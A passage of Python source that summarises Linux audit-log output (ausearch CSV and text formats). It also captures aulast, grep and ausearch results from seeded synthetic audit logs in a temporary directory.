    """Rule 4 on ausearch --format csv: the header, every RESULT=failed row, rows of a rare EVENT, ACTION or SUBJ_PRIME."""
    hi = next((i for i, ln in enumerate(lines) if ln.startswith("NODE,EVENT,")), None)
    if hi is None:
        return exit_lines(lines)
    cols = _csv_split(lines[hi])
    rows = []
    for ln in lines[hi + 1:]:
        v = _csv_split(ln) if ln.strip() else []
        if len(v) == len(cols):
            rows.append((ln, dict(zip(cols, v))))
    out = [lines[hi]] + [ln for ln, d in rows if d.get("RESULT") == "failed"]
    for col in ("EVENT", "ACTION", "SUBJ_PRIME"):
        out += _rare([(ln, d.get(col, "")) for ln, d in rows])
    return out + exit_lines(lines)


@cm.kind("ausearch-text", "log")
def n_ausearch_text(lines):
    """Rule 4/5 on ausearch --format text: every 'unsuccessfully' line, lines of a rare verb, the first and last line."""
    sent = [ln for ln in lines if ln.startswith("At ")]
    out = [ln for ln in sent if " unsuccessfully " in ln]
    verbs = []
    for ln in sent:
        m = re.search(r"\b(?:un)?successfully (\S+)", ln)
        if m:
            verbs.append((ln, m.group(1)))
    out += _rare(verbs)
    if sent:
        out += [sent[0], sent[-1]]
    return out + exit_lines(lines)


def cap_audit(tmp: Path) -> None:
    d = tmp / "audit"
    d.mkdir(parents=True, exist_ok=True)
    r = random.Random(1717)
    t0 = 1764547200.0  # 2025-12-01 00:00 UTC
    log = d / "audit.log"
    log.write_text(audit_log(r, t0, 20))
    (d / "audit.log.1").write_text(audit_log(random.Random(1718), t0 - 86400, 20))
    tz = {"TZ": "UTC"}
    a = lambda cmd: run(cmd, cwd=d, env=tz)  # noqa: E731
    add("aulast-all", "aulast -f /var/log/audit/audit.log", a("aulast -f audit.log"), n_aulast)
    add("aulast-bad", "aulast --bad -f /var/log/audit/audit.log ; echo EXIT=$?", a("aulast --bad -f audit.log; echo EXIT=$?"), n_aulast)
    add("aulast-both", "cat audit.log.1 audit.log | aulast --stdin", a("cat audit.log.1 audit.log | aulast --stdin"), n_aulast)
    add("audit-raw-tail", "tail -n 150 /var/log/audit/audit.log", a("tail -n 150 audit.log"), n_audit_raw)
    add("audit-raw-grep-fail", "grep -E 'res=failed|success=no' /var/log/audit/audit.log | head -n 100",
        a("grep -E 'res=failed|success=no' audit.log | head -n 100"), n_audit_raw)
    add("audit-raw-key", "grep 'key=\"identity\"' -A3 /var/log/audit/audit.log",
        a("grep 'key=\"identity\"' -A3 audit.log"), n_audit_raw)
    add("audit-raw-avc", "grep -E 'type=(AVC|ANOM_ABEND|SERVICE_START|CONFIG_CHANGE|USER_CMD)' /var/log/audit/audit.log",
        a("grep -E 'type=(AVC|ANOM_ABEND|SERVICE_START|CONFIG_CHANGE|USER_CMD)' audit.log"), n_audit_raw)
    add("ausearch-csv-all", "ausearch --format csv -if /var/log/audit/audit.log",
        a("ausearch --format csv -if audit.log 2>&1"), n_ausearch_csv)
    add("ausearch-csv-login", "ausearch -m USER_LOGIN,USER_AUTH,AVC,ANOM_ABEND --format csv -if audit.log ; echo EXIT=$?",
        a("ausearch -m USER_LOGIN,USER_AUTH,AVC,ANOM_ABEND --format csv -if audit.log 2>&1; echo EXIT=$?"), n_ausearch_csv)
    add("ausearch-csv-old", "ausearch --format csv -if audit.log.1 | head -n 200",
        a("ausearch --format csv -if audit.log.1 2>&1 | head -n 200"), n_ausearch_csv)
    add("ausearch-text-all", "ausearch --format text -if /var/log/audit/audit.log | tail -n 200",
        a("ausearch --format text -if audit.log 2>&1 | tail -n 200"), n_ausearch_text)
    add("ausearch-text-key", "ausearch -k identity --format text -if audit.log",
        a("ausearch -k identity --format text -if audit.log 2>&1"), n_ausearch_text)
    add("ausearch-text-user", "ausearch -ua 1001 --format text -if audit.log ; echo EXIT=$?",
        a("ausearch -ua 1001 --format text -if audit.log 2>&1; echo EXIT=$?"), n_ausearch_text)


STEPS = [cap_apparmor, cap_tripwire, cap_logwatch, cap_audit]
